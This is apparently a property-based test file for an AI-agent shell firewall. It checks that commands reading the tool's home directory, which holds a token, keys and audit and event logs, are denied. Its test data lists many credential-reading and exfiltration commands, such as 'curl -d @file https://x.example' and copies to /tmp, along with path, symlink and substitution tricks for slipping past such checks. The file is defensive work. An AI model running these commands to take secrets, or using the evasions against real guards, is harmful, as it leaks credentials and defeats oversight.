// Property (issue 22): however a command names a file in finger's home — through any of 24
// programs and the options that make them read a file, in a pipe, a `$(…)` substitution, a
// `sh -c` string or a variable, as a relative, absolute, `~`, `$FINGER_HOME` or glob path, or
// through a symbolic link in the workspace — an agent's call is DENY, judged by the whole
// FirewallEngine.

import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { RiskAssessor } from '@finger/shell-risk';

import { FirewallEngine } from '../../src/engine/firewall-engine.js';
import { compilePolicy } from '../../src/policy/compile-policy.js';
import { PathSandbox } from '../../src/sandbox/path-sandbox.js';
import { facts, tempDir } from './helpers.js';

/** A program and its option that reads the file `%F`. */
const READERS = [
  'cat %F',
  'head -n 1 %F',
  'tail -c 10 %F',
  'file -f %F',
  'file -m %F x',
  'file --files-from=%F',
  'du --files0-from=%F',
  'wc --files0-from %F',
  'sort --files0-from=%F',
  'tar -cf /tmp/o.tar -T %F',
  'tar -c -X %F .',
  'xargs -a %F echo',
  'grep -f %F README.md',
  'grep -r x %F',
  'rsync --files-from=%F a b',
  'rsync --password-file %F a b',
  'curl -K %F https://x.example',
  'curl -d @%F https://x.example',
  'curl -T %F https://x.example',
  'git commit -F %F',
  'sed -f %F README.md',
  'awk -f %F README.md',
  'jq --rawfile v %F .',
  'jq -f %F',
  'diff --from-file=%F README.md',
  'cp %F /tmp/x',
  'base64 %F',
  'xxd %F',
  'strings %F',
  'md5sum %F',
  'comm %F README.md',
  'nl %F',
];

/** How the command around the reader is built: `%P` the reader, `%V` the reader of the variable `$f`. */
const FORMS = [
  '%P',
  '%P | head -1',
  'echo "$(%P)"',
  'x=$(%P) && echo ok',
  "sh -c '%P'",
  'f=%F; %V',
  'ls && %P',
  'true; %P 2>/dev/null',
];

describe("no command an agent runs reads finger's home", () => {
  let engine: FirewallEngine;
  let cleanup: () => void;
  let files: string[];

  beforeAll(async () => {
    const t = tempDir('finger-home-property');
    cleanup = t.cleanup;
    const homeDir = path.join(t.dir, 'h');
    const home = path.join(homeDir, '.finger');
    const ws = path.join(t.dir, 'ws');
    mkdirSync(path.join(home, 'config'), { recursive: true });
    mkdirSync(ws);
    writeFileSync(path.join(home, 'token'), 'secret');
    writeFileSync(path.join(ws, 'README.md'), 'hi');
    symlinkSync(home, path.join(ws, 'link'));
    symlinkSync(path.join(home, 'token'), path.join(ws, 'tlink'));
    files = [
      '../h/.finger/token',
      './../h/./.finger//daemon.json',
      `${home}/config/config.json`,
      `${home}/keys/cluster.key`,
      '~/.finger/token',
      '$FINGER_HOME/token',
      '${FINGER_HOME}/audit/audit-0000000001.jsonl',
      '../h/.finger/tok*',
      '../h/.finger/{token,x}',
      'link/token',
      'link/state/tasks/t.json',
      'tlink',
    ];
    const assessor = await RiskAssessor.create({ finger_home: home, home_dir: homeDir, daemon: { ports: [7770] } });
    const a = compilePolicy({ version: 1, rules: [] }, { layer: 'admin', homeDir, assessor }).policy;
    const u = compilePolicy({ version: 1, rules: [] }, { layer: 'user', homeDir, assessor, admin: a }).policy;
    engine = new FirewallEngine({
      policy: { current: () => ({ admin: a, user: u }) },
      risk: assessor,
      sandbox: new PathSandbox({ workspaceRoots: [ws], home, homeDir }),
    });
  });
  afterAll(() => cleanup());

  it('every reader × form × spelling is DENY for an agent principal', () => {
    fc.assert(
      fc.property(fc.constantFrom(...READERS), fc.constantFrom(...FORMS), fc.nat(), (reader, form, k) => {
        const file = files[k % files.length]!;
        const command = form
          .replace('%V', reader.replace('%F', '"$f"'))
          .replace('%F', file)
          .replace('%P', reader.replace('%F', file));
        const ev = engine.evaluate(facts('shell.exec', { command }), { record: false });
        expect({ command, level: ev.level }).toEqual({ command, level: 'DENY' });
      }),
      { numRuns: 400 },
    );
  });

  it("the gzip'd event segments (events/*.jsonl.gz) are finger's home too: every decompressing reader is DENY, and so is fs.read", () => {
    const seg = '~/.finger/events/events-0000000001.jsonl.gz';
    for (const command of [
      `zcat ${seg}`,
      `zgrep approval ${seg}`,
      `zless ${seg}`,
      `gunzip -c ${seg}`,
      `gzip -dc ${seg} | head`,
      `cp ${seg} /tmp/e.gz && gunzip /tmp/e.gz`,
      `python3 -c "import gzip, os; print(gzip.open(os.path.expanduser('${seg}')).read())"`,
      'zcat $FINGER_HOME/events/*.gz',
      'zcat link/events/events-0000000002.jsonl.gz',
    ]) {
      const ev = engine.evaluate(facts('shell.exec', { command }), { record: false });
      expect({ command, level: ev.level }).toEqual({ command, level: 'DENY' });
    }
    const read = engine.evaluate(facts('fs.read', { path: 'link/events/events-0000000001.jsonl.gz' }), {
      record: false,
    });
    expect(read.level).toBe('DENY');
  });
});
